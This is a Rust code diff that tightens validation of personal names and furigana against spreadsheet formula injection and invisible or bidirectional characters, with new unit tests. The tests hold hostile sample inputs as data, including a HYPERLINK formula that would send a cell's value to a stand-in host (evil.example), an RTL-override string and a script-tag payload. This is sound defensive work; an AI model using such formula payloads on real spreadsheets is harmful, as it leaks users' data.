@@ -5,15 +5,21 @@ use std::fmt;
 use serde::{Deserialize, Serialize};
 use time::Date;
 
+use crate::typed_text::{self, Lines};
+
 /// Why a personal detail was refused. Carries no input, so it is safe to log and to show.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
 pub enum PersonError {
     /// The name is empty after trimming.
     #[error("the name is empty")]
     NameEmpty,
-    /// The name is longer than 100 characters or holds control characters.
-    #[error("the name is too long or contains control characters")]
+    /// The name is longer than 100 characters or holds a character that typed text may
+    /// not ([`crate::typed_text`]).
+    #[error("the name is too long or contains control or invisible formatting characters")]
     NameInvalid,
+    /// The name starts with `=`, `+`, `-` or `@`, which a spreadsheet reads as a formula.
+    #[error("the name starts with a character a spreadsheet reads as a formula")]
+    NameFormulaStart,
     /// Furigana is empty.
     #[error("the furigana is empty")]
     KanaEmpty,
@@ -35,7 +41,12 @@ const MAX_NAME_CHARS: usize = 100;
 
 /// A person's name as written on their documents (kanji, kana or Latin letters).
 ///
-/// Any text is allowed apart from control characters; it is escaped wherever it is shown.
+/// Any text of one line is allowed apart from what [`crate::typed_text`] refuses (control,
+/// bidirectional and invisible formatting characters), and it may not start with a
+/// character a spreadsheet reads as a formula ([`crate::typed_text::FORMULA_START`]: OWASP,
+/// "CSV Injection"): no real name starts with `=`, `+`, `-` or `@`, while the names that
+/// hold them inside ("Smith-Jones", "グエン＝ヴァン") are kept. It is escaped wherever it is
+/// shown, and neutralised again in every CSV file.
 #[derive(Clone, PartialEq, Eq, Serialize)]
 #[serde(transparent)]
 pub struct PersonName(String);
@@ -43,14 +54,15 @@ pub struct PersonName(String);
 impl PersonName {
     /// Trims and checks a typed name.
     pub fn parse(input: &str) -> Result<Self, PersonError> {
-        let trimmed = input.trim();
-        if trimmed.is_empty() {
+        let name = typed_text::parse(input, Lines::One, MAX_NAME_CHARS)
+            .map_err(|_| PersonError::NameInvalid)?;
+        if name.is_empty() {
             return Err(PersonError::NameEmpty);
         }
-        if trimmed.chars().count() > MAX_NAME_CHARS || trimmed.chars().any(char::is_control) {
-            return Err(PersonError::NameInvalid);
+        if typed_text::starts_like_formula(&name) {
+            return Err(PersonError::NameFormulaStart);
         }
-        Ok(Self(trimmed.to_owned()))
+        Ok(Self(name))
     }
 
     /// The name as text.
@@ -66,7 +78,9 @@ impl fmt::Debug for PersonName {
     }
 }
 
-/// Furigana (フリガナ), normalized to full-width katakana with single ASCII spaces.
+/// Furigana (フリガナ), normalized to full-width katakana with single ASCII spaces. Only kana,
+/// the long-vowel mark, the middle dot and spaces are accepted, so furigana can start with
+/// no formula character and hold no control or invisible character.
 #[derive(Clone, PartialEq, Eq, Serialize)]
 #[serde(transparent)]
 pub struct NameKana(String);
@@ -235,7 +249,39 @@ mod tests {
         );
         assert_eq!(PersonName::parse("  "), Err(PersonError::NameEmpty));
         assert_eq!(PersonName::parse("a\u{0}b"), Err(PersonError::NameInvalid));
+        assert_eq!(PersonName::parse("a\nb"), Err(PersonError::NameInvalid));
+        assert_eq!(
+            PersonName::parse("山田\u{202E}郎太"),
+            Err(PersonError::NameInvalid)
+        );
         assert!(PersonName::parse("<script>alert(1)</script>").is_ok());
+    }
+
+    #[test]
+    fn names_that_a_spreadsheet_would_run_are_refused_and_real_ones_kept() {
+        for formula in [
+            "=HYPERLINK(\"https://evil.example/?n=\"&E2,\"click\")",
+            " =1+1",
+            "+81 Taro",
+            "-Smith",
+            "@SUM(A1)",
+            "\t=1",
+        ] {
+            assert!(PersonName::parse(formula).is_err(), "{formula:?}");
+        }
+        assert_eq!(
+            PersonName::parse("=1+1"),
+            Err(PersonError::NameFormulaStart)
+        );
+        for real in [
+            "Smith-Jones",
+            "グエン＝ヴァン",
+            "Mary-Ann O'Neil",
+            "ＡＢＣ＝１",
+        ] {
+            assert!(PersonName::parse(real).is_ok(), "{real:?}");
+        }
+        assert_eq!(NameKana::parse("=ヤマダ"), Err(PersonError::KanaInvalid));
     }
 
     #[test]
